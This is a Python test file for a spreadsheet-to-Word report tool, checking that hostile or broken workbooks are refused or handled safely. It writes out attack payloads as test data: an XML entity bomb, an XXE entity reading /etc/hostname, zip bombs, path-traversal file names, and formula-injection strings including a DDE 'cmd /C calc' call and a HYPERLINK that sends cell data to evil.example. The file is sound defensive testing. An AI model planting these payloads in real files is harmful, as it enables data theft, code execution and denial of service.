"""Hostile and broken files: each gets its code, its Chinese message and exit 2, and is never modified.

The files are made here, in memory, from our own workbook (or kept in tests/data/foreign/, saved by
LibreOffice and encrypted as Excel does: see tools/make_foreign_files.py).
"""

from __future__ import annotations

import errno
import io
import json
import re
import shutil
import struct
import tracemalloc
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from typer.testing import CliRunner

from conftest import ORG, YEAR, make
from xlsreport import api, guard, outputs, templatecheck
from xlsreport.errors import FATAL, InputError
from xlsreport.findingcodes import FINDINGS
from xlsreport.findings import Finding
from xlsreport.formats import DEFAULT
from xlsreport.guard import REASONS
from xlsreport.layout import layout_of
from xlsreport.outputs import MANIFEST
from xlsreport.reasons import DAMAGE_REASONS, OS_REASONS, reason

runner = CliRunner(env={"COLUMNS": "2000"})  # no message wraps
FOREIGN = Path(__file__).parent / "data" / "foreign"


def fatal(code: str, path: Path, reason: str | None = None, **kw: object) -> str:
    """The message of a fatal code, rendered from the catalogue (and guard's reasons)."""
    fields = {"reason": REASONS[reason].format(**kw)} if reason else {}
    return FATAL[code].template.format(path=str(path), **fields)


def refused(path: Path, code: str, message: str, tmp_path: Path) -> None:
    """check, export and build all stop with `code` and `message`, exit 2, no output, input unchanged."""
    before = path.read_bytes()
    with pytest.raises(InputError) as exc:
        api.check(path)
    assert (exc.value.code, exc.value.message) == (code, message)
    done = runner.invoke(app_(), ["check", "--format", "json", str(path)])
    assert done.exit_code == 2, done.output
    (finding,) = json.loads(done.stdout)["findings"]
    assert (finding["code"], finding["message"]) == (code, message)
    out = tmp_path / "out" / "report.docx"
    for argv in (["export", str(path)], ["build", str(path), "-o", str(out)]):
        done = runner.invoke(app_(), argv)
        assert done.exit_code == 2, (argv, done.output)
        assert f"[{code}] {message}" in done.output
        assert "Traceback" not in done.output
    assert not out.exists() and not (out.parent.exists() and any(out.parent.iterdir()))
    assert path.read_bytes() == before


def app_():
    from xlsreport.cli import app

    return app


def rezip(src: Path, dst: Path, change=lambda name, data: data, extra: dict | None = None) -> Path:
    """A copy of the workbook `src` with its parts passed through `change` (and `extra` parts added)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, change(info.filename, zin.read(info)))
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    dst.write_bytes(buf.getvalue())
    return dst


# ---------------------------------------------------------------- not a workbook
def _docx(p: Path) -> None:
    docx.Document().save(p)


def _truncated(p: Path) -> None:
    data = api.blank(ORG, YEAR, p.with_name("whole.xlsx")).read_bytes()
    p.write_bytes(data[: len(data) // 2])


@pytest.mark.parametrize(
    ("make_file", "reason"),
    [
        (lambda p: p.write_bytes(b""), "empty"),
        (lambda p: p.write_bytes(bytes(range(256)) * 40), "unknown"),
        (_docx, "docx"),
        (lambda p: p.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"), "pdf"),
        (lambda p: p.write_bytes(b"<html><body><table><tr><td>1</td></tr></table></body></html>"), "html"),
        (lambda p: p.write_text("机关名称,件数\n小城子镇,3\n", encoding="utf-8"), "text"),
        (lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100)), "image"),
        (_truncated, "truncated"),
    ],
)
def test_not_a_workbook_says_what_it_is(tmp_path, make_file, reason):
    path = tmp_path / "returned.xlsx"
    make_file(path)
    refused(path, "FILE_NOT_WORKBOOK", fatal("FILE_NOT_WORKBOOK", path, reason), tmp_path)


def test_part_name_cut_to_nothing(tmp_path):
    """A NUL at the start of a part's name in the zip directory (found by the fuzz test): zipfile cuts the
    name there, leaving an empty one, which no program writes; refused as damaged, never a traceback."""
    path = api.blank(ORG, YEAR, tmp_path / "n.xlsx")
    data = bytearray(path.read_bytes())
    at = data.rfind(b"xl/worksheets/sheet5.xml")  # its name in the central directory, the last one
    data[at] = 0
    path.write_bytes(bytes(data))
    message = fatal("FILE_NOT_WORKBOOK", path, "corrupt", detail="部件名称为空")
    refused(path, "FILE_NOT_WORKBOOK", message, tmp_path)


def test_corrupt_zip_part(tmp_path):
    """A part whose checksum fails is found by whichever reads it whole first (here openpyxl), never a traceback."""
    path = api.blank(ORG, YEAR, tmp_path / "c.xlsx")
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"xl/styles.xml") + 1)  # styles' central directory entry
    struct.pack_into("<I", data, at + 16, struct.unpack_from("<I", data, at + 16)[0] ^ 0xFFFF)  # its CRC
    path.write_bytes(bytes(data))
    with pytest.raises(InputError) as exc:
        api.check(path)
    prefix = FATAL["FILE_NOT_WORKBOOK"].template.split("{reason}")[0].format(path=path)
    assert exc.value.code == "FILE_NOT_WORKBOOK" and exc.value.message.startswith(prefix)
    assert "损坏" in exc.value.message and DAMAGE_REASONS["BadZipFile"] in exc.value.message
    assert "BadZipFile" not in exc.value.message  # Python's name for it is not a clerk's word
    refused(path, "FILE_NOT_WORKBOOK", exc.value.message, tmp_path)


def test_unsupported_compression_method(tmp_path):
    """A part packed with Deflate64 (method 9), as some archivers do: zipfile cannot unpack it (found by fuzzing)."""
    path = api.blank(ORG, YEAR, tmp_path / "d.xlsx")
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")  # the first part's central directory entry
    struct.pack_into("<H", data, at + 10, 9)  # its compression method
    path.write_bytes(bytes(data))
    message = fatal("FILE_NOT_WORKBOOK", path, "corrupt", detail=DAMAGE_REASONS["NotImplementedError"])
    refused(path, "FILE_NOT_WORKBOOK", message, tmp_path)


def test_zip_without_a_workbook(tmp_path):
    path = tmp_path / "z.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("readme.txt", "hello")
    refused(path, "FILE_NOT_WORKBOOK", fatal("FILE_NOT_WORKBOOK", path, "no_workbook"), tmp_path)


# ---------------------------------------------------------------- other spreadsheet formats
@pytest.mark.parametrize(
    ("fixture", "name", "code", "reason"),
    [
        ("blank.xls", "returned.xls", "FILE_OTHER_FORMAT", "xls"),
        ("blank.xls", "returned.xlsx", "FILE_OTHER_FORMAT", "xls"),  # renamed: told by content, not name
        # WPS keeps .et in the same OLE/BIFF container as .xls; only the name tells them apart
        ("blank.xls", "returned.et", "FILE_OTHER_FORMAT", "et"),
        ("blank.ods", "returned.xlsx", "FILE_OTHER_FORMAT", "ods"),
        ("blank-encrypted.xlsx", "returned.xlsx", "FILE_ENCRYPTED", None),
    ],
)
def test_other_formats_and_encryption(tmp_path, fixture, name, code, reason):
    path = tmp_path / name
    shutil.copyfile(FOREIGN / fixture, path)
    refused(path, code, fatal(code, path, reason), tmp_path)


def test_encrypted_message_says_to_remove_the_password(tmp_path):
    assert "加密" in FATAL["FILE_ENCRYPTED"].template and "取消密码" in FATAL["FILE_ENCRYPTED"].template
    assert {"EncryptionInfo", "EncryptedPackage"} <= guard.ole_streams(
        (FOREIGN / "blank-encrypted.xlsx").read_bytes()
    )
    assert "Workbook" in guard.ole_streams((FOREIGN / "blank.xls").read_bytes())


def test_excel_2003_xml(tmp_path):
    path = tmp_path / "returned.xls"
    path.write_text(
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>',
        encoding="utf-8",
    )
    refused(path, "FILE_OTHER_FORMAT", fatal("FILE_OTHER_FORMAT", path, "xml2003"), tmp_path)


def test_xlsb(tmp_path):
    path = tmp_path / "b.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
    refused(path, "FILE_OTHER_FORMAT", fatal("FILE_OTHER_FORMAT", path, "xlsb"), tmp_path)


def test_xlsm_data_is_read_macros_never_run(tmp_path):
    """An .xlsm is read like an .xlsx; its VBA project is neither run nor kept, and a warning says so."""
    book = make(tmp_path, {"t3_new_natural": 2, "t3_granted_natural": 2})
    macro_type = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"

    def to_xlsm(name, data):
        if name == "[Content_Types].xml":
            data = data.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro_type
            )
            return data.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        return data

    path = rezip(
        book, tmp_path / "returned.xlsm", to_xlsm, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(508)}
    )
    before = path.read_bytes()
    checked = api.check(path)
    assert checked.values["t3_new_natural"] == 2  # the data is read
    warning = next(f for f in checked.report.findings if f.code == "MACROS_IGNORED")
    assert warning.severity == "warning" and warning.message == FINDINGS["MACROS_IGNORED"].template
    done = runner.invoke(app_(), ["check", "--format", "json", str(path)])
    assert done.exit_code == 0
    assert FINDINGS["MACROS_IGNORED"].template in [f["message"] for f in json.loads(done.stdout)["findings"]]
    assert runner.invoke(app_(), ["build", str(path), "-o", str(tmp_path / "r.docx")]).exit_code == 0
    assert path.read_bytes() == before


# ---------------------------------------------------------------- attacks
LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)).replace(
    "&lol0;", "lol"
)
BOMB = f'<?xml version="1.0"?><!DOCTYPE lolz [{LAUGHS}]>'.encode()
PARTS = [
    "[Content_Types].xml",
    "xl/workbook.xml",
    "xl/sharedStrings.xml",
    "xl/worksheets/sheet4.xml",
    "xl/styles.xml",
    "docProps/custom.xml",
]


def _bomb(part: str):
    def change(name, data):
        if name != part:
            return data
        body = data.split(b"?>", 1)[1]
        return BOMB + body.replace(b"</", b"&lol9;</", 1)

    return change


@pytest.mark.parametrize("part", PARTS)
def test_entity_bomb_in_any_part_is_refused(tmp_path, part):
    path = rezip(api.blank(ORG, YEAR, tmp_path / "b.xlsx"), tmp_path / "bomb.xlsx", _bomb(part))
    refused(path, "FILE_UNSAFE", fatal("FILE_UNSAFE", path, "dtd", part=part), tmp_path)


def test_external_entity_is_refused(tmp_path):
    def xxe(name, data):
        if name != "xl/sharedStrings.xml":
            return data
        body = data.split(b"?>", 1)[1].replace(b"<t>", b"<t>&x;", 1)
        return b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/hostname">]>' + body

    path = rezip(api.blank(ORG, YEAR, tmp_path / "b.xlsx"), tmp_path / "xxe.xlsx", xxe)
    refused(path, "FILE_UNSAFE", fatal("FILE_UNSAFE", path, "dtd", part="xl/sharedStrings.xml"), tmp_path)


@pytest.mark.parametrize("part", PARTS)
def test_openpyxl_alone_refuses_the_bomb_too(tmp_path, part):
    """Defence in depth: past the guard, openpyxl parses with defusedxml (and lxml's amplification limit)."""
    assert openpyxl.DEFUSEDXML
    path = rezip(api.blank(ORG, YEAR, tmp_path / "b.xlsx"), tmp_path / "bomb.xlsx", _bomb(part))
    with pytest.raises(Exception) as exc:
        wb = openpyxl.load_workbook(path, read_only=True)
        for ws in wb.worksheets:
            list(ws.iter_rows(max_row=100, values_only=True))
    assert any(w in repr(exc.value) + repr(exc.value.__context__) for w in ("Entit", "entity", "read"))


def _declare_size(path: Path, part: str, size: int) -> Path:
    """Make the zip directory claim `part` decompresses to `size` bytes (nothing is inflated to see it)."""
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(part.encode()) + 1)
    struct.pack_into("<I", data, at + 24, size)
    path.write_bytes(bytes(data))
    return path


def test_zip_bomb_declaring_gigabytes_is_refused_from_the_directory(tmp_path):
    path = _declare_size(api.blank(ORG, YEAR, tmp_path / "b.xlsx"), "xl/worksheets/sheet4.xml", 4_000_000_000)
    message = fatal(
        "FILE_TOO_LARGE", path, "part_bytes", part="xl/worksheets/sheet4.xml", found="3815 MB", limit="32 MB"
    )
    refused(path, "FILE_TOO_LARGE", message, tmp_path)


def test_zip_bomb_of_honest_size_is_refused_by_its_ratio(tmp_path):
    filler = b"<!-- " + b"0" * (4 * 1024 * 1024) + b" -->"  # 4 MB that deflate packs into a few KB

    def pad(name, data):
        return data.replace(b"?>", b"?>" + filler, 1) if name == "xl/sharedStrings.xml" else data

    path = rezip(api.blank(ORG, YEAR, tmp_path / "b.xlsx"), tmp_path / "bomb.xlsx", pad)
    info = zipfile.ZipFile(path).getinfo("xl/sharedStrings.xml")
    ratio = info.file_size // info.compress_size
    message = fatal("FILE_TOO_LARGE", path, "ratio", part="xl/sharedStrings.xml", found=ratio, limit=100)
    refused(path, "FILE_TOO_LARGE", message, tmp_path)


def test_too_many_parts_and_too_much_in_total(tmp_path):
    path = tmp_path / "many.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        for i in range(1_001):
            z.writestr(f"x/{i}", b"")
    refused(path, "FILE_TOO_LARGE", fatal("FILE_TOO_LARGE", path, "parts", found=1001, limit=1000), tmp_path)
    blank = api.blank(ORG, YEAR, tmp_path / "b.xlsx")
    total = sum(i.file_size for i in zipfile.ZipFile(blank).infolist())
    guard.inspect(blank, guard.Limits(total_bytes=total))
    with pytest.raises(InputError) as exc:
        guard.inspect(blank, guard.Limits(total_bytes=total - 1))
    assert exc.value.code == "FILE_TOO_LARGE" and REASONS["total_bytes"].split("{")[0] in exc.value.message


def _absurd(rows: int):
    """表三 declared A1:XFD1048576, one row of 16,384 cells, `rows` filled rows below ours, and XFD1048576."""

    def change(name, data):
        if name != "xl/worksheets/sheet4.xml":
            return data
        wide = "".join(
            f'<c r="{openpyxl.utils.get_column_letter(c)}90"><v>1</v></c>' for c in range(1, 16_385)
        )
        many = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(100, 100 + rows))
        last = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
        return data.replace(b"</sheetData>", f'<row r="90">{wide}</row>{many}{last}</sheetData>'.encode())

    return change


def test_absurd_sheet_is_read_only_as_far_as_our_cells(tmp_path):
    book = make(tmp_path, {"t3_new_natural": 2, "t3_granted_natural": 2})
    expected = api.check(book)
    path = rezip(book, tmp_path / "absurd.xlsx", _absurd(200_000))
    before = path.read_bytes()
    tracemalloc.start()
    try:
        checked = api.check(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 60 * 1024 * 1024, f"{peak / 1e6:.0f} MB"  # the sheet holds 200,000 rows; we read 60
    assert checked.values == expected.values and checked.report.to_dict()["findings"] == [
        f.to_dict() for f in expected.report.findings
    ]
    assert runner.invoke(app_(), ["check", str(path)]).exit_code == 0
    assert path.read_bytes() == before


def test_sheet_with_a_million_rows_is_refused_by_size(tmp_path):
    path = rezip(api.blank(ORG, YEAR, tmp_path / "b.xlsx"), tmp_path / "million.xlsx", _absurd(1_048_000))
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet4.xml")
    message = fatal(
        "FILE_TOO_LARGE",
        path,
        "part_bytes",
        part="xl/worksheets/sheet4.xml",
        found=guard._size(info.file_size),
        limit="32 MB",
    )
    refused(path, "FILE_TOO_LARGE", message, tmp_path)


# ---------------------------------------------------------------- path-like body names
NAMES = ["../../x", "CON", "a/b", "c\\d", "e:f", "..", "NUL.txt", " 镇 ", "宝清县" * 60]


def test_path_like_body_names_stay_in_their_folder(tmp_path):
    roster = tmp_path / "roster.txt"
    roster.write_text("\n".join(NAMES), encoding="utf-8")
    out = tmp_path / "out"
    done = runner.invoke(app_(), ["blank", "--roster", str(roster), "--year", "2024", "-o", str(out)])
    assert done.exit_code == 0, done.output
    files = sorted(p for p in out.iterdir() if p.name != MANIFEST)  # and the record of what was written
    assert len(files) == len(NAMES) and all(p.parent == out and p.suffix == ".xlsx" for p in files)
    assert not (tmp_path / "x_2024年.xlsx").exists() and not list(tmp_path.parent.glob("x_*"))
    assert all(len(p.name.encode()) < 255 for p in files)
    orgs = {api.check(p).org for p in files}
    assert orgs == {n.strip() for n in NAMES}  # the workbook keeps the name; only the file name is made safe
    for p in files:
        stem = p.name.split("_2024年")[0].upper()
        assert stem not in {"CON", "NUL", "NUL.TXT", "", ".", ".."}


def test_names_that_make_the_same_file_are_refused(tmp_path):
    roster = tmp_path / "roster.txt"
    roster.write_text("a/b\na:b\n", encoding="utf-8")
    done = runner.invoke(
        app_(), ["blank", "--roster", str(roster), "--year", "2024", "-o", str(tmp_path / "o")]
    )
    name = api.blank_name("a:b", 2024)
    why = reason("ROSTER_INVALID", "same_file_name", other="a/b", org="a:b", name=name)
    assert done.exit_code == 2
    assert (
        f"[ROSTER_INVALID] {FATAL['ROSTER_INVALID'].template.format(path=roster, reason=why)}" in done.output
    )
    assert not (tmp_path / "o").exists()


def test_org_like_a_path_without_output(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert runner.invoke(app_(), ["blank", "--org", "../../x", "--year", "2024"]).exit_code == 0
    assert [p.name for p in tmp_path.iterdir()] == [api.blank_name("../../x", 2024)]


# ---------------------------------------------------------------- formula injection
INJECT = {
    "info_filler": "=cmd|' /C calc'!A0",
    "info_phone": "+86-451-1234",
    "text_overview": '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "text_other": "@SUM(1+1)*cmd|' /C calc'!A0",
    "t3_new_natural": "=1+2",
}


def test_formula_text_reaches_every_output_as_text(tmp_path):
    path = api.fill(
        {"format": DEFAULT.id, "fields": {"info_org": ORG, "info_year": YEAR, **INJECT}}, tmp_path / "i.xlsx"
    )
    ws = {s: openpyxl.load_workbook(path)[s] for s in ("基本信息", "文字部分", "表三")}
    lay = layout_of(DEFAULT)
    for key, text in INJECT.items():
        c = ws[lay.cells[key].sheet][lay.cells[key].a1]
        assert (c.data_type, c.value) == ("s", text), key  # a string, never a formula
    exported = json.loads(runner.invoke(app_(), ["export", str(path)]).stdout)["fields"]
    assert {k: exported[k] for k in INJECT} == INJECT
    again = api.fill(
        {"format": DEFAULT.id, "fields": exported}, tmp_path / "again.xlsx"
    )  # the round trip keeps them text too
    assert openpyxl.load_workbook(again)["文字部分"][lay.cells["text_overview"].a1].data_type == "s"
    out = tmp_path / "r.docx"
    assert runner.invoke(app_(), ["build", "--force", str(path), "-o", str(out)]).exit_code == 0
    body = "\n".join(p.text for p in docx.Document(out).paragraphs)
    assert INJECT["text_overview"] in body and INJECT["text_other"] in body


def test_a_real_formula_in_an_input_cell_exports_as_its_text(tmp_path):
    from conftest import cell, edit, sheet

    path = edit(make(tmp_path), {(sheet("t3_new_natural"), cell("t3_new_natural")): "=1+2"})
    done = runner.invoke(app_(), ["export", str(path)])
    assert done.exit_code == 0 and json.loads(done.stdout)["fields"]["t3_new_natural"] == "=1+2"


# ---------------------------------------------------------------- output side
def test_existing_output_is_refused_unless_overwrite(tmp_path):
    book = make(tmp_path)
    for argv in (
        ["build", str(book), "-o"],
        ["blank", "--org", ORG, "--year", "2024", "-o"],
        ["fill", str(_data(tmp_path)), "-o"],
    ):
        target = tmp_path / "existing.bin"
        target.write_bytes(b"keep me")
        done = runner.invoke(app_(), [*argv, str(target)])
        assert done.exit_code == 2
        assert f"[OUTPUT_EXISTS] {FATAL['OUTPUT_EXISTS'].template.format(path=target)}" in done.output
        assert target.read_bytes() == b"keep me"
        assert runner.invoke(app_(), [*argv, str(target), "--overwrite"]).exit_code == 0
        assert target.read_bytes() != b"keep me"


def _data(tmp_path: Path) -> Path:
    p = tmp_path / "data.json"
    p.write_text(json.dumps({"fields": {"info_org": ORG, "info_year": YEAR}}), encoding="utf-8")
    return p


def test_unwritable_folder(tmp_path):
    book = make(tmp_path)
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    target = blocker / "sub" / "r.docx"
    done = runner.invoke(app_(), ["build", str(book), "-o", str(target)])
    assert done.exit_code == 2
    message = FATAL["OUTPUT_UNWRITABLE"].template.format(path=target, reason=OS_REASONS["ENOTDIR"])
    assert f"[OUTPUT_UNWRITABLE] {message}" in done.output


class _DiskFull(io.RawIOBase):
    """A file that accepts 4 KB and then reports a full disk."""

    def __init__(self, real):
        self.real, self.left = real, 4096

    def writable(self):
        return True

    def write(self, b):
        # the library's ZipFile, abandoned mid-write, retries its directory when collected
        if self.real.closed:
            return len(b)
        if len(b) > self.left:
            raise OSError(errno.ENOSPC, "No space left on device")
        self.left -= len(b)
        return self.real.write(b)

    def flush(self):
        if not self.real.closed:
            self.real.flush()

    def fileno(self):
        return self.real.fileno()

    def close(self):
        self.real.close()
        super().close()


@pytest.mark.parametrize("what", ["build", "fill", "blank"])
def test_disk_full_leaves_nothing_behind(tmp_path, monkeypatch, what):
    book = make(tmp_path)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / ("r.docx" if what == "build" else "r.xlsx")
    real_fdopen = outputs.os.fdopen
    monkeypatch.setattr(
        outputs.os,
        "fdopen",
        lambda fd, mode, **kw: (
            _DiskFull(real_fdopen(fd, mode)) if mode == "wb" else real_fdopen(fd, mode, **kw)
        ),
    )
    argv = {
        "build": ["build", str(book)],
        "fill": ["fill", str(_data(tmp_path))],
        "blank": ["blank", "--org", ORG, "--year", "2024"],
    }[what]
    done = runner.invoke(app_(), [*argv, "-o", str(target)])
    assert done.exit_code == 2, done.output
    message = FATAL["OUTPUT_UNWRITABLE"].template.format(path=target, reason=OS_REASONS["ENOSPC"])
    assert f"[OUTPUT_UNWRITABLE] {message}" in done.output
    assert list(out_dir.iterdir()) == []  # neither the output nor its temporary file


def test_word_template_not_a_docx_or_without_placeholders(tmp_path):
    book = make(tmp_path)
    bad = tmp_path / "t.docx"
    bad.write_text("not a document")
    done = runner.invoke(app_(), ["build", str(book), "--template", str(bad), "-o", str(tmp_path / "r.docx")])
    assert done.exit_code == 2 and "[DOCX_TEMPLATE_INVALID] Word模板" in done.output
    assert FATAL["DOCX_TEMPLATE_INVALID"].template.split("{reason}")[0].format(path=bad) in done.output
    bare = tmp_path / "bare.docx"
    docx.Document().save(bare)
    done = runner.invoke(
        app_(), ["build", str(book), "--template", str(bare), "-o", str(tmp_path / "r.docx")]
    )
    message = FATAL["DOCX_TEMPLATE_INCOMPLETE"].template.format(
        path=bare,
        what=reason("DOCX_TEMPLATE_INCOMPLETE", "placeholders"),
        missing="、".join(templatecheck.placeholders(DEFAULT)),
    )
    assert done.exit_code == 2 and f"[DOCX_TEMPLATE_INCOMPLETE] {message}" in done.output
    assert not (tmp_path / "r.docx").exists()


def test_cell_text_is_never_console_markup(tmp_path):
    path = make(tmp_path, {"t3_new_natural": "[/x][bold]三"})
    done = runner.invoke(app_(), ["check", str(path)])
    assert not isinstance(done.exception, Exception) or isinstance(done.exception, SystemExit)
    assert done.exit_code == 1
    message = Finding.at(DEFAULT, "t3_new_natural", "VALUE_TEXT", "[/x][bold]三").message
    assert message.split(" · ")[-1] in done.output  # 自然人（D6）：…，实为“[/x][bold]三”…, as written
